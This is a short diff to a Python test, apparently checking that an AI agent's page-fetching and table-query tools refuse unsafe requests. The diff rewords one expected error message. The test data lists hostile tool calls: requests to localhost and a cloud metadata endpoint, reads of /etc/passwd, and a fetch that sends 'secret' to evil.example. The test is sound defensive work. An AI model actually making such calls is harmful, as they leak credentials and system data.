@@ -79,7 +79,7 @@ def test_an_agent_gets_no_further_than_a_form(provider: FakeProvider, environmen
         "inside this machine": calls("fetch_page", url="http://127.0.0.1:22/"),
         "inside": calls("fetch_page", url="http://169.254.169.254/latest/meta-data"),
         "must begin with https": calls("fetch_page", url="file:///etc/passwd"),
-        "not among the hosts": calls("fetch_page", url="https://evil.example/?q=secret"),
+        "not allowed to call": calls("fetch_page", url="https://evil.example/?q=secret"),
         "reads its own tables only": calls(
             "query_table", files=["sample:orders.csv"], sql="from read_text('/etc/passwd')"
         ),
